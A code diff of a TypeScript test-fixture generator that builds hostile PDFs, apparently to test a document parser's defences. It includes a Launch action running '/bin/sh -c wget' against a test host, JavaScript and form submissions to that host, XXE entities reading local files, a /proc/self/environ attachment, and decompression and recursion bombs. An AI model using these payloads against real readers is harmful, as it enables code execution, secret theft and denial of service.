@@ -1,10 +1,10 @@
-/** PDFs that run, reach, come back to themselves or swell. */
+/** PDFs with scripts, external references, cycles and bombs. */
 import { deflateSync } from 'node:zlib'
 import { type HostileFile, hostile, type Targets } from './hostile-file.ts'
 
 type Part = string | Buffer
 
-/** Objects by number from 1; the first is the catalogue. */
+/** Objects by number from 1; the first is the catalog. */
 export function writePdf(objects: readonly Part[], trailer = ''): Buffer {
   const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')]
   let offset = 9
@@ -37,7 +37,7 @@ const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
 const words = 'BT /F1 18 Tf 20 100 Td (Visible words) Tj ET'
 
 interface OnePage {
-  readonly catalogue?: string
+  readonly catalog?: string
   readonly page?: string
   readonly resources?: string
   readonly content?: Part
@@ -47,7 +47,7 @@ interface OnePage {
 }
 
 function onePage({
-  catalogue = '',
+  catalog = '',
   page = '',
   resources = '',
   content = words,
@@ -55,7 +55,7 @@ function onePage({
   more = [],
 }: OnePage): Buffer {
   return writePdf([
-    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
+    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
     '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
     `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Resources << /Font << /F1 5 0 R >> ${resources} >> /Contents 4 0 R ${page} >>`,
     stream(content, contentEntries),
@@ -64,8 +64,13 @@ function onePage({
   ])
 }
 
-export function reachingPdfs({ http, text, image: picture, unixSocket }: Targets): HostileFile[] {
-  const pdf = (what: string, page: OnePage) => hostile('reach', what, 'paper.pdf', onePage(page))
+export function pdfsWithExternalReferences({
+  http,
+  text,
+  image: imagePath,
+  unixSocket,
+}: Targets): HostileFile[] {
+  const pdf = (what: string, page: OnePage) => hostile('external', what, 'paper.pdf', onePage(page))
   const outside = (target: string) => `<< /Type /Filespec /FS /URL /F (${target}) >>`
   const image = (target: string) =>
     stream(
@@ -73,45 +78,45 @@ export function reachingPdfs({ http, text, image: picture, unixSocket }: Targets
       `/Type /XObject /Subtype /Image /Width 320 /Height 160 /ColorSpace /DeviceRGB /BitsPerComponent 8 /F ${target} /FFilter /FlateDecode`,
     )
   return [
-    pdf('pdf: a picture that stands in another file', {
+    pdf('pdf: an image in an external file', {
       resources: '/XObject << /A 6 0 R /B 7 0 R >>',
       content: `${words} q 300 0 0 200 0 0 cm /A Do /B Do Q`,
-      more: [image(`(${picture})`), image(outside(`${http}/a.png`))],
+      more: [image(`(${imagePath})`), image(outside(`${http}/a.png`))],
     }),
     pdf('pdf: pages of another document', {
       resources: '/XObject << /A 6 0 R >>',
       content: `${words} /A Do`,
       more: [stream('', `/Type /XObject /Subtype /Form /BBox [0 0 300 200] /Ref << /F (${text}) /Page 0 >>`)],
     }),
-    pdf('pdf: a content that stands in another file', { content: '', contentEntries: `/F (${text})` }),
+    pdf('pdf: content in an external file', { content: '', contentEntries: `/F (${text})` }),
     pdf('pdf: actions of every kind', {
-      catalogue: `/OpenAction << /S /Launch /F (/bin/sh) /P (-c wget ${http}/l) >> /AA << /WC << /S /URI /URI (${http}/aa) >> >>`,
+      catalog: `/OpenAction << /S /Launch /F (/bin/sh) /P (-c wget ${http}/l) >> /AA << /WC << /S /URI /URI (${http}/aa) >> >>`,
       page: `/AA << /O << /S /GoToR /F (${text}) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /SubmitForm /F ${outside(`${http}/form`)} >> >> << /Type /Annot /Subtype /Link /Rect [0 0 90 90] /A << /S /URI /URI (file://${text}) >> >> << /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (${http}/m.mov) >> >> << /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >> << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:app.alert\\(1\\)) >> >>]`,
     }),
-    pdf('pdf: forms (XFA) with entities and addresses', {
-      catalogue: '/AcroForm << /XFA 6 0 R /Fields [] /NeedAppearances true >>',
+    pdf('pdf: XFA forms with entities and URLs', {
+      catalog: '/AcroForm << /XFA 6 0 R /Fields [] /NeedAppearances true >>',
       more: [
         stream(
           `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file://${text}"><!ENTITY y SYSTEM "${http}/xfa">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/2.8/"><subform><field><value><image href="${http}/i.png"/><text>&x;&y;</text></value></field></subform></template></xdp:xdp>`,
         ),
       ],
     }),
-    pdf('pdf: a socket and the environment as files', {
+    pdf('pdf: a socket and the environment as attachments', {
       page: `/AF [<< /Type /Filespec /F (${unixSocket}) >> << /Type /Filespec /F (/proc/self/environ) >>]`,
-      catalogue: `/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (${text}) >>] >> >>`,
+      catalog: `/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (${text}) >>] >> >>`,
     }),
     hostile(
       'script',
-      'pdf: scripts that run when it opens',
+      'pdf: scripts that run on opening',
       'paper.pdf',
       onePage({
-        catalogue: `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${http}/js"\\); this.submitForm\\("${http}/f"\\);) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (while\\(true\\){}) >>] >> >>`,
+        catalog: `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${http}/js"\\); this.submitForm\\("${http}/f"\\);) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (while\\(true\\){}) >>] >> >>`,
       }),
     ),
   ]
 }
 
-export function heavyPdfs(): HostileFile[] {
+export function pdfBombs(): HostileFile[] {
   const pdf = (what: string, content: Buffer) => hostile('bomb', what, 'paper.pdf', content)
   const form = (inner: string, resources: string) =>
     stream(
@@ -124,7 +129,7 @@ export function heavyPdfs(): HostileFile[] {
   const bombs = deflateSync(deflateSync(Buffer.alloc(128 * 1024 * 1024)))
   return [
     pdf(
-      'pdf: a tree of pages that comes back to itself',
+      'pdf: a cycle in the page tree',
       writePdf([
         '<< /Type /Catalog /Pages 2 0 R >>',
         '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>',
@@ -132,16 +137,19 @@ export function heavyPdfs(): HostileFile[] {
       ]),
     ),
     pdf(
-      'pdf: a million pages in its own words',
+      'pdf: declares a million pages',
       writePdf([
         '<< /Type /Catalog /Pages 2 0 R >>',
         '<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>',
         '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>',
       ]),
     ),
-    pdf('pdf: an object that is itself', writePdf(['<< /Type /Catalog /Pages 2 0 R >>', '2 0 R', '3 0 R'])),
     pdf(
-      'pdf: a drawing inside itself',
+      'pdf: an object that references itself',
+      writePdf(['<< /Type /Catalog /Pages 2 0 R >>', '2 0 R', '3 0 R']),
+    ),
+    pdf(
+      'pdf: a form that draws itself',
       onePage({
         resources: '/XObject << /X 6 0 R >>',
         content: `${words} /X Do`,
@@ -149,7 +157,7 @@ export function heavyPdfs(): HostileFile[] {
       }),
     ),
     pdf(
-      'pdf: drawings that double 24 times',
+      'pdf: forms that double 24 times',
       onePage({
         resources: '/XObject << /X 6 0 R >>',
         content: '/X Do',
@@ -157,11 +165,11 @@ export function heavyPdfs(): HostileFile[] {
       }),
     ),
     pdf(
-      'pdf: a content packed twice that unpacks to a mountain',
+      'pdf: content that is a nested decompression bomb',
       onePage({ content: bombs, contentEntries: '/Filter [/FlateDecode /FlateDecode]' }),
     ),
     pdf(
-      'pdf: a picture of 100000 by 100000',
+      'pdf: an image of 100000 by 100000',
       onePage({
         resources: '/XObject << /X 6 0 R >>',
         content: 'q 300 0 0 200 0 0 cm /X Do Q',
@@ -173,9 +181,9 @@ export function heavyPdfs(): HostileFile[] {
         ],
       }),
     ),
-    pdf('pdf: brackets in brackets', onePage({ page: `/X ${deep}` })),
+    pdf('pdf: deeply nested arrays', onePage({ page: `/X ${deep}` })),
     pdf(
-      'pdf: a page as large as a town',
+      'pdf: a page of 9000000 points',
       writePdf([
         '<< /Type /Catalog /Pages 2 0 R >>',
         '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
@@ -185,21 +193,21 @@ export function heavyPdfs(): HostileFile[] {
       ]),
     ),
     pdf(
-      'pdf: a hundred thousand lines to draw',
+      'pdf: a hundred thousand lines',
       onePage({
         content: deflateSync(Buffer.from('0 0 m 300 200 l S\n'.repeat(100_000))),
         contentEntries: flate,
       }),
     ),
     pdf(
-      'pdf: a table that points to itself',
+      'pdf: a cross-reference table that points to itself',
       Buffer.concat([
         onePage({}).subarray(0, -40),
         Buffer.from('trailer\n<< /Size 6 /Root 1 0 R /Prev 9 >>\nstartxref\n9\n%%EOF\n'),
       ]),
     ),
     pdf(
-      'pdf: patterns of patterns',
+      'pdf: recursive patterns',
       onePage({
         resources: '/Pattern << /P 6 0 R >>',
         content: '/Pattern cs /P scn 0 0 300 200 re f',
@@ -212,7 +220,7 @@ export function heavyPdfs(): HostileFile[] {
       }),
     ),
     pdf(
-      'pdf: a font that is not one',
+      'pdf: a corrupt font',
       onePage({
         resources: '/Font << /F1 6 0 R >>',
         more: [
@@ -224,7 +232,7 @@ export function heavyPdfs(): HostileFile[] {
       }),
     ),
     pdf(
-      'pdf: a type 3 font that calls itself',
+      'pdf: a Type 3 font that draws itself',
       onePage({
         resources: '/Font << /F1 6 0 R >>',
         more: [
@@ -234,7 +242,7 @@ export function heavyPdfs(): HostileFile[] {
       }),
     ),
     pdf(
-      'pdf: a function that never ends',
+      'pdf: an endless function',
       onePage({
         resources: '/ColorSpace << /C [/Separation /A /DeviceRGB 6 0 R] >>',
         content: '/C cs 1 scn 0 0 300 200 re f',
@@ -244,7 +252,7 @@ export function heavyPdfs(): HostileFile[] {
   ]
 }
 
-/** A TrueType file whose tables lie outside it, overlap, and whose program jumps back for ever. */
+/** A TrueType font whose tables overlap or lie outside of the file, with an endless program. */
 function hostileFont(): Buffer {
   const names = ['head', 'maxp', 'loca', 'glyf', 'fpgm', 'prep', 'cvt ', 'hmtx', 'hhea', 'cmap']
   const head = Buffer.alloc(12 + names.length * 16 + 64, 0xb0)
